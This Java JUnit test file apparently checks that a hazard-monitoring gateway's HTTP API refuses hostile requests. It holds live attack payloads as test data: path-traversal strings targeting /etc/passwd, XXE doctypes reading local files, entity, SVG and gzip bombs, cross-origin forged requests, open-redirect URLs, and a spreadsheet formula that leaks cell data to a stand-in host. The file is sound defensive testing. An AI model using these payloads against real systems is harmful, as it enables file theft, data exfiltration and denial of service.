package io.hazardwatch.gateway.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import io.hazardwatch.gateway.alarms.Alarm;
import io.hazardwatch.gateway.alarms.Transition;
import io.hazardwatch.gateway.alarms.TransitionType;
import io.hazardwatch.gateway.model.Priority;
import io.hazardwatch.gateway.testkit.RawHttp;
import io.vertx.core.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletionException;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.yaml.snakeyaml.Yaml;

/**
 * Attacks that come in over HTTP and have no test beside the room they aim at: none gets in, none is an error of the gateway. Slow senders are in
 * {@link HttpBoundsTest}, header injection and deep JSON in {@link OpenApiFuzzTest}.
 */
class HostileRequestsTest extends ApiTestCase {
    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1)";
    private static final String SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>";
    private static final String LAUGHS =
            "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>";
    private static final String DAY = "from=2025-11-21T00:00:00Z&to=2025-11-23T00:00:00Z";
    /** Every table that a spreadsheet opens, with its query. */
    private static final String HAZARD_SOURCE = "/api/v1/sites/{enterprise}/{site}/hazard-sources/{hazardsource}";
    private static final Map<String, String> TABLES = Map.of("/api/v1/import/template", "", "/api/v1/alarms.csv", "",
            "/api/v1/reports/monitoring-actions.csv", '?' + DAY,
            "/api/v1/coverage.csv", "", "/api/v1/kpis", "?enterprise=huarun-gas&" + DAY, "/api/v1/kpis.csv", "?enterprise=huarun-gas&" + DAY,
            "/api/v1/roster/export.csv", "", "/api/v1/weather/figures", '?' + DAY,
            HAZARD_SOURCE + "/filing.csv", "", HAZARD_SOURCE + "/stock.csv", "");

    private Alarm alarm;

    @BeforeEach
    void open() {
        desk.weather.warn("matrix", "暴雨橙色预警");
        alarm = desk.raise(Desk.GAS, Priority.P1, Desk.START);
        desk.warnings.send(Desk.GAS, Desk.START);
        desk.permits.issue(Desk.GAS, Desk.START);
        desk.duty.post("post-of-huarun-gas", "huarun-gas", List.of("zhang"), List.of("admin"), Desk.START);
        desk.duty.look(Desk.START);
    }

    private Map<?, ?> documented() {
        Map<?, ?> document = new Yaml().load(client.send("GET", "/api/v1/openapi.yaml", null).text());
        return (Map<?, ?>) document.get("paths");
    }

    private List<String> documented(Set<String> methods) {
        List<String> calls = new ArrayList<>();
        documented().forEach((path, item) -> ((Map<?, ?>) item).keySet().stream().filter(methods::contains)
                .forEach(method -> calls.add(String.valueOf(method).toUpperCase(Locale.ROOT) + ' ' + path)));
        return calls;
    }

    private String raw(String head) {
        try (RawHttp connection = new RawHttp(desk.front.port())) {
            return connection.send(head + "\r\n\r\n").head();
        }
    }

    @Test
    void everyAnswer_forbidsFramesAndSniffing() {
        List<String> open = new ArrayList<>();
        List<String> calls = documented(Set.of("get"));
        calls.addAll(List.of("GET /", "GET /nothing", "GET /api/v1/nothing", "GET /answer/none", "GET /?logIn=REFUSED"));
        for (String call : calls) {
            String path = new AccessPaths(desk, client).fill(call.substring(4).replace("{action}", "rain-drains"), Desk.GAS);
            Client.Response answer = client.get("admin", path);
            String policy = String.valueOf(answer.header("Content-Security-Policy"));
            if (!policy.startsWith("default-src 'none'") || !"DENY".equals(answer.header("X-Frame-Options"))
                    || !"nosniff".equals(answer.header("X-Content-Type-Options"))
                    || !policy.contains("sandbox") && !policy.contains("frame-ancestors 'none'")) {
                open.add(call + ' ' + answer.status());
            }
        }
        assertEquals(List.of(), open);
    }

    @Test
    void bodyBeyondEveryBound_isRefusedBeforeItIsSent_byEveryCommand() {
        List<String> taken = new ArrayList<>();
        for (String call : documented(Set.of("post", "put", "patch"))) {
            String path = new AccessPaths(desk, client).fill(call.substring(call.indexOf(' ') + 1).replace("{action}", "rain-drains"),
                    Desk.GAS);
            String head = raw(call.substring(0, call.indexOf(' ')) + ' ' + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
                    + Client.basic("admin") + "\r\nContent-Type: application/json\r\nContent-Length: 99000000");
            if (!head.matches("(?s)HTTP/1.1 4\\d\\d .*")) {
                taken.add(call + " -> " + head.lines().findFirst().orElse("closed"));
            }
        }
        assertEquals(List.of(), taken);
    }

    @Test
    void bodyInChunks_endsAtItsBound() {
        String chunk = "10000\r\n" + " ".repeat(0x10000) + "\r\n";
        try (RawHttp connection = new RawHttp(desk.front.port())) {
            connection.send("POST /api/v1/alarms/" + alarm.id() + "/ack HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + Client.basic("operator")
                    + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk.repeat(32));
            assertTrue(connection.head().startsWith("HTTP/1.1 413"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd", "/..%5c..%5cgateway.yaml", "/%252e%252e/%252e%252e/etc/passwd",
        "/../../../etc/passwd", "/texts/..%2f..%2fopenapi.yaml", "/%c0%ae%c0%ae/etc/passwd", "/index.html%00.js", "/texts/%00", "/....//etc/passwd",
        "/webjars/../application.yaml", "/api/v1/sites/..%2f../lpg-depot-01/drawing", "/api/v1/sites/huarun-gas/..%2f..%2fetc%2fpasswd/drawing",
        "/api/v1/sites/huarun-gas/%2e%2e%2fx/drawing", "/api/v1/sites/huarun-gas/lpg-depot-01%00/drawing", "/api/v1/exports/..%2f..%2fjournal.db",
        "/api/v1/sites/huarun-gas/%252e%252e%252fx/drawing"})
    void pathsThatLeaveTheirFolder_findNothing(String path) {
        String head = raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + Client.basic("admin"));
        assertTrue(head.matches("(?s)HTTP/1.1 40[04] .*"), head);
    }

    @ParameterizedTest
    @ValueSource(strings = {"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"})
    void formOfAForeignPage_doesNothing(String type) {
        String path = "/api/v1/alarms/" + alarm.id() + "/ack";
        String body = "{\"occurrence\":1,\"annSeq\":1,\"x\":\"=\"}";
        String cookie = cookie();
        for (String origin : List.of("https://evil.example", "null", desk.url() + ".evil.example", "http://localhost.evil.example", "")) {
            assertEquals(403, client.send("POST", path, body, "Content-Type", type, "Cookie", cookie, "Origin", origin).status(), origin);
            assertEquals(403, client.send("POST", "/api/v1/session", "{\"username\":\"viewer\",\"password\":\"viewer\"}", "Content-Type", type,
                    "Origin", origin).status(), origin);
        }
        assertEquals(403, client.send("POST", path, body, "Content-Type", type, "Cookie", cookie).status());
        int own = client.send("POST", path, body, "Content-Type", type, "Cookie", cookie, "Origin", desk.url()).status();
        assertTrue(own == 415 || own == 400, "no form is a command, wherever it comes from: " + own);
        assertEquals(1, desk.journal.size());
    }

    /** A browser that withholds the origin still says where the request comes from. */
    @ParameterizedTest
    @ValueSource(strings = {"cross-site", "same-site"})
    void requestOfAForeignPageWithoutOrigin_doesNothing(String site) {
        String path = "/api/v1/alarms/" + alarm.id() + "/comment";
        String body = new JsonObject().put("comment", "seen").encode();
        String admin = Client.basic("admin");
        Client.Response refused = client.send("POST", path, body, "Authorization", admin, "Sec-Fetch-Site", site);
        assertEquals("FOREIGN_ORIGIN", refused.json().getString("reason"));
        assertTrue(raw("GET /api/v1/alarms HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + admin + "\r\nSec-Fetch-Site: " + site)
                .startsWith("HTTP/1.1 200"), "a link to the console may stand anywhere");
        Client.Response own = client.send("POST", path, body, "Authorization", admin, "Sec-Fetch-Site", "same-origin");
        assertEquals(200, own.status(), own::text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://evil.example", "null", "http://127.0.0.1", "http://127.0.0.1:1", "http://localhost.evil.example"})
    void foreignPage_opensNoLiveFeedByTheCookie(String origin) {
        String cookie = cookie();
        try {
            Desk.await(sockets.connect(webSocket("/api/v1/live").addHeader("Cookie", cookie).addHeader("Origin", origin)).toCompletionStage());
        } catch (CompletionException refused) {
            assertTrue(String.valueOf(refused.getCause().getMessage()).contains("403"), refused.getCause()::toString);
            return;
        }
        throw new AssertionError("opened by a page of " + origin);
    }

    @Test
    void noTable_hasACellThatIsAFormula() {
        commands();
        Set<String> documented = new TreeSet<>();
        documented().forEach((path, item) -> {
            Map<?, ?> get = (Map<?, ?>) ((Map<?, ?>) item).get("get");
            if (get != null && String.valueOf(get.get("responses")).contains("text/csv")) {
                documented.add(String.valueOf(path));
            }
        });
        documented.remove("/api/v1/export"); // of site files, which the desk has none of; see TableReaderTest
        assertEquals(new TreeSet<>(TABLES.keySet()), documented);
        List<String> formulas = new ArrayList<>();
        Set<String> defused = new HashSet<>();
        TABLES.forEach((path, query) -> {
            Client.Response table = client.send("GET", ofTheDesk(path) + query, null, "Authorization", Client.basic("admin"), "Accept", "text/csv");
            assertTrue(table.status() == 200 && table.header("Content-Type").startsWith("text/csv"), () -> path + ' ' + table.text());
            CsvReader.builder().ofCsvRecord(table.text()).forEach(line -> line.getFields().forEach(cell -> {
                if (cell.matches("(?s)[=+@\\t\\r\\n\uff1d\uff0b\uff0d\uff20-].*") && !cell.matches("-?[0-9.E]+")) {
                    formulas.add(path + ' ' + cell);
                }
                if (cell.equals('\'' + FORMULA)) {
                    defused.add(path);
                }
            }));
        });
        assertEquals(List.of(), formulas);
        assertEquals(Set.of("/api/v1/alarms.csv", "/api/v1/reports/monitoring-actions.csv", HAZARD_SOURCE + "/filing.csv",
                HAZARD_SOURCE + "/stock.csv"), defused, "the tables that repeat what people write");
    }

    private static String ofTheDesk(String path) {
        return path.replace("{enterprise}", "huarun-gas").replace("{site}", "lpg-depot-01").replace("{hazardsource}", "tank-farm-a");
    }

    /** What people and plants may write, where tables repeat it. */
    private void commands() {
        desk.commit(new Transition(alarm, alarm, TransitionType.ALARM_COMMENTED, false, null, Desk.START, "@evil", FORMULA));
        JsonObject body = new JsonObject().put("permit", FORMULA).put("until", "2025-11-22T12:00:00Z").put("measure", FORMULA)
                .put("reason", FORMULA).put("second", new JsonObject().put("username", "supervisor").put("password", "supervisor"));
        clock.advance(1000);
        assertEquals(200, client.post("maintenance", "/api/v1/alarms/" + alarm.id() + "/out-of-service", body).status());
        String source = ofTheDesk(HAZARD_SOURCE);
        assertEquals(201, client.post("operator", source + "/stock", new JsonObject().put("substance", "68476-85-7").put("direction", "in")
                .put("tonnes", 1).put("words", FORMULA)).status());
        assertEquals(201, client.post("supervisor", source + "/assessments", new JsonObject().put("day", "2025-11-01").put("assessor", FORMULA))
                .status());
    }

    @Test
    void nameOfAPersonOnTheRoster_isNoFormula() {
        for (String row : List.of("huarun-gas-room,2025-11-25T08:00,2025-11-25T20:00," + '"' + FORMULA.replace("\"", "\"\"") + '"',
                "=1+1,2025-11-25T08:00,2025-11-25T20:00,huarun-gas-a")) {
            client.send("POST", "/api/v1/roster/import", "post,from,to,persons\r\n" + row + "\r\n", "Authorization", Client.basic("admin"),
                    "Content-Type", "text/csv");
        }
        String table = client.get("admin", "/api/v1/roster/export.csv").text();
        assertTrue(table.contains("'=HYPERLINK"), table);
        assertFalse(table.contains("=1+1"), table);
    }

    @Test
    void packedBomb_isGivenUpAtTheBound() throws IOException, InterruptedException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(packed)) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 100; i++) {
                zip.write(zeros);
            }
        }
        assertEquals(413, packedTo("/api/v1/ingest/huarun-gas/lpg-depot-01/gd-07", packed.toByteArray(), "gzip"));
        assertEquals(415, packedTo("/api/v1/ingest/huarun-gas/lpg-depot-01/gd-07", packed.toByteArray(), "gzip, gzip"));
        assertEquals(0, desk.pushes.ingests.count());
        int status = packedTo("/api/v1/session", packed.toByteArray(), "gzip");
        assertTrue(status == 400 || status == 413 || status == 415, "nobody else unpacks: " + status);
    }

    private int packedTo(String path, byte[] body, String encoding) throws IOException, InterruptedException {
        return client.http().send(HttpRequest.newBuilder(URI.create(desk.url() + path)).header("Authorization", Client.basic("gw"))
                .header("Content-Type", "application/json").header("Content-Encoding", encoding).POST(BodyPublishers.ofByteArray(body)).build(),
                BodyHandlers.discarding()).statusCode();
    }

    @Test
    void drawingThatMultipliesItself_isTakenWithoutWhatMultiplies() {
        StringBuilder uses = new StringBuilder(SVG).append("<defs><g id='a0'><circle r='1'/></g>");
        for (int i = 1; i < 12; i++) {
            uses.append("<g id='a").append(i).append("'>").append(("<use xlink:href='#a" + (i - 1) + "'/><use href='#a" + (i - 1) + "'/>").repeat(5))
                    .append("</g>");
        }
        String path = "/api/v1/sites/huarun-gas/lpg-depot-01/drawing";
        Client.Response taken = put(path, uses + "</defs><circle r='2'/></svg>");
        assertEquals(200, taken.status(), taken::text);
        String shown = client.get("viewer", path).text();
        assertFalse(shown.contains("href"), shown);
        assertEquals(400, put(path, LAUGHS + SVG + "<text>&c;</text></svg>").status());
        assertEquals(413, put(path, SVG + " ".repeat(3 << 20) + "</svg>").status());
        assertEquals(shown, client.get("viewer", path).text(), "the one before is kept");
    }

    private Client.Response put(String path, String svg) {
        return client.send("PUT", path, svg, "Authorization", Client.basic("admin"), "Content-Type", "image/svg+xml");
    }

    @ParameterizedTest
    @ValueSource(strings = {LAUGHS, "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.1:1/x'>%p;]>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"})
    void warningWithADocumentType_isRefused(String type) {
        String text = DeskWeather.text("B", "&a;");
        String hostile = text.startsWith("<?xml") ? text.substring(0, text.indexOf("?>") + 2) + type + text.substring(text.indexOf("?>") + 2)
                : type + text;
        Client.Response refused = client.send("POST", "/api/v1/weather/warnings", hostile, "Authorization", Client.basic("admin"), "Content-Type",
                "application/xml");
        assertEquals("HAS_DOCTYPE", refused.json().getString("reason"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"/oidc/start?return=https://evil.example", "/oidc/start?redirect_uri=//evil.example&next=https://evil.example",
        "/oidc/callback?code=x&state=https://evil.example&next=//evil.example", "//evil.example/", "//evil.example/%2e%2e", "/%5cevil.example"})
    void noAddress_leadsElsewhere(String path) {
        String head = raw("GET " + path + " HTTP/1.1\r\nHost: localhost");
        assertFalse(head.toLowerCase(Locale.ROOT).matches("(?s).*\r\nlocation: (?!/\\?login=).*"), head);
        assertFalse(head.contains("evil"), head);
    }
}
